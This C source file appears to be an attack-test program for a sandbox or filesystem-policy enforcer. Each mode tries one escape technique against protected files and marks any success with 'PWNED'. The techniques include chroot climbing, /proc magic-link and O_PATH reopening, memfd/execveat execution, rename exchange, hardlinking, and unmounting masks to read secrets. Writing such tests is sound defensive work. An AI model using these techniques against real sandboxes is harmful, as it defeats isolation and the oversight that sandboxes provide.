/*
 * Attack class 5: the filesystem rules.
 *
 * Every mode tries to change a file the policy protects (or to run a
 * program the policy does not let it run); the runner compares the file's
 * bytes, names and link count before and after, and counts marker lines.
 * Writes always append "PWNED" so that any success is visible.
 */
#include "common.h"

#include <libgen.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <termios.h>

#define NR_RENAMEAT2 316
#define RENAME_EXCHANGE_FLAG 2

static long append_pwned(long fd)
{
	if (fd < 0)
		return -1;
	long r = write((int)fd, "PWNED", 5);
	close((int)fd);
	return r;
}

static void go(void)
{
	ready();
	wait_go();
}

static int a_write(int argc, char **argv)
{
	need_args(argc, 1, "write PATH");
	go();
	long fd = open(argv[0], O_WRONLY | O_APPEND);
	report("open", fd);
	report("write", append_pwned(fd));
	return 0;
}

static int a_create(int argc, char **argv)
{
	need_args(argc, 1, "create PATH");
	go();
	long fd = open(argv[0], O_WRONLY | O_CREAT | O_EXCL, 0644);
	report("open", fd);
	report("write", append_pwned(fd));
	return 0;
}

static int a_truncate(int argc, char **argv)
{
	need_args(argc, 1, "truncate PATH");
	go();
	report("truncate", truncate(argv[0], 0));
	return 0;
}

static int a_otrunc(int argc, char **argv)
{
	need_args(argc, 1, "otrunc PATH");
	go();
	long fd = open(argv[0], O_RDONLY | O_TRUNC);
	report("open-rdonly-trunc", fd);
	if (fd >= 0)
		close((int)fd);
	fd = open(argv[0], O_WRONLY | O_TRUNC);
	report("open-wronly-trunc", fd);
	if (fd >= 0)
		close((int)fd);
	return 0;
}

static int a_rename(int argc, char **argv)
{
	need_args(argc, 2, "rename FROM TO");
	go();
	report("rename", rename(argv[0], argv[1]));
	return 0;
}

static int a_exchange(int argc, char **argv)
{
	need_args(argc, 2, "exchange A B");
	go();
	report("renameat2-exchange", syscall(NR_RENAMEAT2, AT_FDCWD, argv[0], AT_FDCWD, argv[1],
					     RENAME_EXCHANGE_FLAG));
	return 0;
}

static int a_link(int argc, char **argv)
{
	need_args(argc, 2, "link FROM TO");
	go();
	long r = link(argv[0], argv[1]);
	report("link", r);
	if (r == 0)
		report("write", append_pwned(open(argv[1], O_WRONLY | O_APPEND)));
	return 0;
}

/* Run the marker from FD (execveat AT_EMPTY_PATH) in a child; report. */
static void exec_fd_child(const char *what, int fd, const char *path, char *out)
{
	pid_t c = fork();
	if (c == 0) {
		char *args[] = {"marker", (char *)g_tag, "marker", out, NULL};
		char *envp[] = {NULL};
		if (path)
			execve(path, args, envp);
		else
			syscall(SYS_execveat, fd, "", args, envp, AT_EMPTY_PATH);
		report(what, -1);
		_exit(1);
	}
	int st = 0;
	waitpid(c, &st, 0);
	say("EXITED %s status=%d", what, st);
}

/* memfd-exec PROG OUTFILE: copy PROG into a memfd and execute that. */
static int a_memfd_exec(int argc, char **argv)
{
	need_args(argc, 2, "memfd-exec PROG OUTFILE");
	int src = open(argv[0], O_RDONLY);
	report("open-prog", src);
	int mfd = memfd_create("escape", 0);
	report("memfd_create", mfd);
	char buf[65536];
	ssize_t n;
	while (src >= 0 && mfd >= 0 && (n = read(src, buf, sizeof buf)) > 0)
		if (write(mfd, buf, (size_t)n) != n)
			return 1;
	go();
	exec_fd_child("execveat-memfd", mfd, NULL, argv[1]);
	char path[64];
	snprintf(path, sizeof path, "/proc/self/fd/%d", mfd);
	exec_fd_child("execve-proc-fd", mfd, path, argv[1]);
	return 0;
}

/* execveat PROG OUTFILE: execute PROG through an O_PATH descriptor. */
static int a_execveat(int argc, char **argv)
{
	need_args(argc, 2, "execveat PROG OUTFILE");
	go();
	int fd = open(argv[0], O_PATH | O_CLOEXEC);
	report("open-o-path", fd);
	exec_fd_child("execveat-o-path", fd, NULL, argv[1]);
	return 0;
}

/*
 * proc-spellings TARGET CWD REL: write TARGET (absolute) through magic
 * links and descriptors; REL is TARGET relative to CWD.
 */
static int a_proc_spellings(int argc, char **argv)
{
	need_args(argc, 3, "proc-spellings TARGET CWD REL");
	const char *target = argv[0];
	char dir[4096], base[4096];
	snprintf(dir, sizeof dir, "%s", target);
	snprintf(base, sizeof base, "%s", target);
	const char *d = dirname(dir), *b = basename(base);
	go();
	report("chdir", chdir(argv[1]));
	char path[8192];
	snprintf(path, sizeof path, "/proc/self/root%s", target);
	report("proc-self-root", append_pwned(open(path, O_WRONLY | O_APPEND)));
	snprintf(path, sizeof path, "/proc/thread-self/root%s", target);
	report("proc-thread-self-root", append_pwned(open(path, O_WRONLY | O_APPEND)));
	snprintf(path, sizeof path, "/proc/%d/root%s", getpid(), target);
	report("proc-pid-root", append_pwned(open(path, O_WRONLY | O_APPEND)));
	snprintf(path, sizeof path, "/proc/self/cwd/%s", argv[2]);
	report("proc-self-cwd", append_pwned(open(path, O_WRONLY | O_APPEND)));
	int dfd = open(d, O_PATH | O_DIRECTORY);
	report("open-dir-o-path", dfd);
	report("openat-dirfd", append_pwned(openat(dfd, b, O_WRONLY | O_APPEND)));
	snprintf(path, sizeof path, "/proc/self/fd/%d/%s", dfd, b);
	report("proc-self-fd-dir", append_pwned(open(path, O_WRONLY | O_APPEND)));
	int ffd = open(target, O_PATH);
	report("open-file-o-path", ffd);
	snprintf(path, sizeof path, "/proc/self/fd/%d", ffd);
	report("proc-self-fd-reopen", append_pwned(open(path, O_WRONLY | O_APPEND)));
	return 0;
}

/* ioctl-winsize PTS: change a terminal's size through a read-only open. */
static int a_ioctl_winsize(int argc, char **argv)
{
	need_args(argc, 1, "ioctl-winsize PTS");
	go();
	int fd = open(argv[0], O_RDONLY | O_NOCTTY);
	report("open", fd);
	struct winsize ws = {.ws_row = 77, .ws_col = 33};
	report("TIOCSWINSZ", ioctl(fd, TIOCSWINSZ, &ws));
	return 0;
}

/* The classic way out of a chroot: a second root below the working
 * directory, then `..` from the directory left outside it, up to the
 * machine's root, made the root again; then PATH (a host path) written. */
static int a_chroot_climb(int argc, char **argv)
{
	need_args(argc, 1, "chroot-climb HOST-PATH");
	go();
	if (chdir("/") != 0)
		report("chdir-root", -1);
	if (mkdir("/tmp/climb", 0700) != 0 && errno != EEXIST)
		report("mkdir", -1);
	report("chroot-inner", chroot("/tmp/climb"));
	for (int i = 0; i < 64; i++)
		if (chdir("..") != 0)
			break;
	report("chroot-dot", chroot("."));
	long fd = open(argv[0], O_WRONLY | O_APPEND);
	report("open", fd);
	report("write", append_pwned(fd));
	return 0;
}

/* A masked file (a mount over it, or over its directory): unmount the
 * mask, the file's and its directory's, then read what is under it.
 * "LEAK" when the file's bytes ("SECRET...") are read. */
static int a_mask_reveal(int argc, char **argv)
{
	need_args(argc, 1, "mask-reveal PATH");
	char dir[4096];
	snprintf(dir, sizeof dir, "%s", argv[0]);
	go();
	report("umount", umount2(argv[0], MNT_DETACH));
	report("umount-dir", umount2(dirname(dir), MNT_DETACH));
	char buf[16] = {0};
	int fd = open(argv[0], O_RDONLY);
	report("open", fd);
	if (fd >= 0) {
		report("read", read(fd, buf, sizeof buf - 1));
		close(fd);
	}
	if (!strncmp(buf, "SECRET", 6))
		say("LEAK");
	return 0;
}

int main(int argc, char **argv)
{
	static const struct mode modes[] = {
		{"write", a_write},
		{"create", a_create},
		{"truncate", a_truncate},
		{"otrunc", a_otrunc},
		{"rename", a_rename},
		{"exchange", a_exchange},
		{"link", a_link},
		{"memfd-exec", a_memfd_exec},
		{"execveat", a_execveat},
		{"proc-spellings", a_proc_spellings},
		{"ioctl-winsize", a_ioctl_winsize},
		{"chroot-climb", a_chroot_climb},
		{"mask-reveal", a_mask_reveal},
		{0, 0},
	};
	return dispatch(modes, argc, argv);
}
